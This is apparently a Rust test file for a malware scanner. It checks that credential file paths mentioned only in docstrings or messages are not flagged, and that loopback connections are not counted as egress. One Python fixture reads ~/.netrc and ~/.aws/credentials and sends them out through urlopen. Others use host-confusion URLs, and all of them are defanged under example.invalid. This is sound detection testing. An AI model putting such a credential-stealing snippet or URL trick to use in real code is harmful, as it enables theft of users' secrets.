//! Credential locations that are only shown, and connections that stay on this machine
//! (tester t29, session 22): a location named in a docstring or in a message handed to an
//! output call is not read, and a connection to a loopback address or a Unix socket path is no
//! egress. The same files with a real read, or a real host, stay stealers. Fixtures are written
//! here, defanged (hosts under `example.invalid`), and scanned with the library; nothing runs.

use airlock::finding::Severity;

#[path = "support/pysrc.rs"]
mod pysrc;
use pysrc::check;

const STEALER: &str = "python-credential-stealer";
const NETWORK: &str = "python-network-at-load";

#[test]
fn locations_in_docstrings_and_messages_are_not_reads() {
    let doc = "import urllib.request\n\
               def fetch(url):\n    \"\"\"Credentials come from ~/.netrc and ~/.aws/credentials.\"\"\"\n    \
               return urllib.request.urlopen(url)\n";
    let message = "import urllib.request, logging\n\
                   def fetch(url):\n    \
                   print('put the token in ~/.netrc, or in ~/.git-credentials, instead')\n    \
                   logging.getLogger(__name__).warning('see ' '~/.aws/credentials')\n    \
                   return urllib.request.urlopen(url)\n";
    // The same locations read and sent.
    let read = "import urllib.request, os\n\
                def fetch(url):\n    \
                data = open(os.path.expanduser('~/.netrc')).read() + open(os.path.expanduser('~/.aws/credentials')).read()\n    \
                return urllib.request.urlopen(url, data=data.encode())\n";
    check(&[
        ("demo/net.py", doc, STEALER, None),
        ("demo/net.py", message, STEALER, None),
        ("demo/net.py", read, STEALER, Some(Severity::Critical)),
    ]);
}

#[test]
fn connections_to_this_machine_are_not_egress() {
    let local = [
        "import socket\ns = socket.socket()\ns.connect_ex(('127.0.0.1', 8080))\n",
        "import socket\nsocket.create_connection(('localhost', 6379))\n",
        "import urllib.request\nurllib.request.urlopen('http://[::1]:8000/health')\n",
        "import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect('/run/demo.sock')\n",
    ];
    let remote = [
        "import socket\ns = socket.socket()\ns.connect_ex(('x.example.invalid', 8080))\n",
        "import urllib.request\nurllib.request.urlopen('http://127.0.0.1.x.example.invalid/')\n",
        "import urllib.request\nurllib.request.urlopen('http://localhost@x.example.invalid/')\n",
    ];
    let mut cases: Vec<(&str, &str, &str, Option<Severity>)> = local
        .iter()
        .map(|s| ("demo/__init__.py", *s, NETWORK, None))
        .collect();
    cases.extend(
        remote
            .iter()
            .map(|s| ("demo/__init__.py", *s, NETWORK, Some(Severity::Medium))),
    );
    check(&cases);
}
